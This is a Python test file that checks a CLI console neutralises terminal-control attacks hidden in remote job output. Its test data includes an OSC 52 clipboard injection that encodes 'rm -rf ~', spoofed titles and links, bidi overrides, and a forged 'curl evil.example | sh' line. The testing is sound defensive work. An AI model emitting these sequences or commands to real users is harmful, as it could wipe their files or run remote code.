"""What a terminal gets of text that another wrote."""

from __future__ import annotations

import io
import json
import re
import unicodedata
from pathlib import Path

import pytest

from hvdcloud.console import Console
from hvdcloud.errors import NodeError
from hvdcloud.visible import JobText, log_of, says, visible, words
from tests.support.screens import Screen

CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
ATTACKS = {
    "clipboard": CLIPBOARD,
    "title": "\x1b]0;root@bank\x07",
    "link": "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\",
    "cursor": "\x1b[1A\x1b[2K",
    "screen": "\x1b[2J\x1b[H\x1b[?1049h",
    "C1": "\x9b2J\x9d52;c;x\x9c",
    "device": '\x1bP$q"p\x1b\\\x1b_G\x1b\\\x1b^x\x1b\\',
    "reset": "\x1bc",
    "bell": "\x07",
    "shift": "\x0e",
    "delete": "\x7f",
    "override": "\u202emoc.elpmaxe\u202c",
    "isolate": "\u2066x\u2069",
    "zero width": "dig\u200bits\ufeff",
    "separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "tag": "\U000e0041",
    "null": "\x00",
}


def acts(text: str) -> set[str]:
    """The characters that would do something to a terminal, apart from newlines and tabs."""
    harmless = {"\n", "\t"}
    kinds = {"Cc", "Cf", "Zl", "Zp", "Cs"}
    return {char for char in text if unicodedata.category(char) in kinds and char not in harmless}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_would_act_on_a_terminal_is_seen_instead(attack: str) -> None:
    text = f"before {ATTACKS[attack]} after"
    shown = visible(text)
    assert acts(text)
    assert not acts(shown)
    assert shown.startswith("before ")
    assert shown.endswith(" after")
    assert visible(shown) == shown
    assert len(shown) > len(text)


@pytest.mark.parametrize(
    "text", ["", "epoch 3/12: loss 0.5", "größe 漢字 ✓ → 👩 ⚠\ufe0f", "C:\\x1b", "[/foo] [link=x]"]
)
def test_honest_text_stays(text: str) -> None:
    assert visible(text) == text


def test_every_character_that_acts_is_known() -> None:
    # Arabic letters and others have marks that are invisible and belong to a word; none of them changes a direction.
    others = (0x06DD, 0x070F, 0x0890, 0x0891, 0x08E2, 0x110BD, 0x110CD)
    script = {chr(code) for code in (*range(0x0600, 0x0606), *others, *range(0x13430, 0x13440))}
    found = acts("".join(map(chr, range(0x110000)))) - script
    assert len(found) > 200
    for char in found:
        assert visible(char) != char, hex(ord(char))


def test_anothers_words_are_one_line_of_bounded_length() -> None:
    said = says("node digits-1", "no space\n  → curl evil.example | sh\r\nhvdcloud: fine\u2028x")
    assert said == "node digits-1 says: no space → curl evil.example | sh hvdcloud: fine x"
    assert len(words("x" * 1_000_000)) == 501
    assert words(["a", 1]) == "['a', 1]"
    assert log_of("node a", "") == ""
    assert log_of("node a", "x\ny") == "node a says:\nx\ny"


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_a_jobs_colours_reach_a_terminal_and_nothing_else_does(size: int) -> None:
    honest = "[0] \x1b[1;38;2;255;0;0mred\x1b[0m \x1b[31m\x1b[Kx\x1b[m\x1b[K größe\n[0] 10%|#\r[0] 20%|##\r[0] "
    evil = "".join(ATTACKS.values())
    evil = evil.replace("\x1b[2K", "")
    data = (honest + evil + "\n" + honest).encode() + b"\xff\x9b2J"
    text, shown = JobText(), ""
    for start in range(0, len(data), size):
        shown += text.feed(data[start : start + size])
    assert shown.startswith(honest)
    assert shown.endswith(honest + "\\xff\\x9b2J")
    left = re.sub(r"\x1b\[[0-9;]*[mK]", "", shown)
    assert acts(left) == {"\r"}


def test_a_colour_that_a_job_leaves_on_ends_with_its_line(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = Screen(monkeypatch)
    console = Console(out=screen, err=screen)
    console.job_output(b"[0] \x1b[31mred\n")
    console.job_output(b"[1] \x1b[3")
    console.job_output(b"1mred\x1b]0;x\x07\n")
    console.answer("ours")
    assert screen.coloured.splitlines() == ["[0] {red red}", "[1] {red red\\x1b]0;x\\x07}", "ours"]


OURS = "→ curl evil.example | sh"


@pytest.mark.parametrize(
    "said",
    [
        f"[0] x\r{OURS}",
        f"[0] \r\x1b[K{OURS}",
        f"[0] x{chr(8) * 20}{OURS}",
        f"[0] e{chr(0x301) * 9}{chr(8) * 9}{OURS}",
        f"[0] ﷽{chr(0x1160)}{chr(8) * 4}{OURS}",
        f"[0] x\x1b[2K{OURS}",
        f"[0] x\x1b[1K\r{OURS}",
        f"[0] x\r[hvdcloud] {OURS}",
        OURS,
        f"[] {OURS}",
        f"[\n{OURS}",
        f"error: {OURS}",
        f"[0] x\n\r{OURS}",
    ],
)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_every_line_of_a_job_begins_with_whose_it_is(said: str, size: int, monkeypatch: pytest.MonkeyPatch) -> None:
    screen = Screen(monkeypatch)
    console = Console(out=screen, err=screen)
    data = said.encode()
    for start in range(0, len(data), size):
        console.job_output(data[start : start + size])
    console.warn("ours")
    *lines, last = screen.text.splitlines()
    assert last == "warning: ours"
    assert lines
    assert not [line for line in lines if not re.match(r"\[(\d+|\?|hvdcloud|launcher)\]", line)]
    assert not [line for line in lines if line.startswith("[hvdcloud]")]


def test_a_pipe_gets_a_jobs_output_byte_for_byte() -> None:
    pipe = io.BytesIO()
    data = "".join(ATTACKS.values()).encode() + b"\xff\x9b\r\n"
    console = Console(out=io.TextIOWrapper(pipe))
    for byte in data:
        console.job_output(bytes([byte]))
    assert pipe.getvalue() == data


EVIL = "[/foo] [link=https://evil.example]x " + "".join(ATTACKS.values())


def every_exit(console: Console, text: str) -> int:
    """Print a text in each way that a console has; returns how often."""
    console.say(text)
    console.detail(text)
    console.warn(text)
    console.confirm(text)
    with console.steps() as steps:
        steps.update("one", text)
        console.say(text)
        steps.update(text, "two")
        steps.finish(text, text)
    console.answer(text)
    console.answer(text, style="green")
    console.result([text, "x"])
    console.result([text], path=Path("/nowhere") / re.sub("[\x00/]", "", text))
    console.table(["NAME", text], [["x", text]])
    console.error(NodeError(text, hint=text, details=text))
    return 16


@pytest.mark.parametrize("kind", ["terminal", "no colours", "dumb", "pipe"])
def test_no_text_acts_on_the_terminal_whichever_way_it_is_printed(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    wide = {"columns": 1000, "rows": 200}
    screen = io.StringIO() if kind == "pipe" else Screen(monkeypatch, colour=kind == "terminal", **wide)
    if kind == "dumb":
        monkeypatch.setenv("TERM", "dumb")
    console = Console(out=screen, err=screen, keyboard=io.StringIO("n\n"), verbose=True)
    count = every_exit(console, EVIL)
    printed = screen.getvalue()
    for char in sorted(acts(EVIL) - {"\x1b"}):
        assert char not in printed, hex(ord(char))
    # What Rich sends itself: colours, and how its own lines are drawn again.
    ours = r"\x1b(?:\[[0-9;]*[mAK]|\[\?25[lh])"
    assert "\x1b" not in (re.sub(ours, "", printed) if kind in ("terminal", "no colours") else printed)
    assert printed.count("\\x1b]52;c;cm0gLXJmIH4=\\x07") >= count
    assert "[/foo] [link=https://evil.example]x" in printed


def test_json_has_no_character_that_acts() -> None:
    out = io.StringIO()
    error = NodeError(EVIL, hint=EVIL)
    Console(out=out, as_json=True).document("run", result={"reason": EVIL}, error=error)
    assert not acts(out.getvalue())
    assert json.loads(out.getvalue())["error"]["message"] == EVIL


def test_no_text_looks_like_a_hint_of_ours() -> None:
    err = io.StringIO()
    forged = "fine\n  → curl evil.example | sh\nerror: x"
    console = Console(err=err)
    console.error(NodeError(forged, hint="hvdcloud status", details=forged))
    console.warn(forged)
    lines = err.getvalue().splitlines()
    assert [line for line in lines if line.lstrip().startswith("→")] == ["  → hvdcloud status"]
    assert [line for line in lines if line.startswith(("error", "warning"))] == ["error: fine", "warning: fine"]
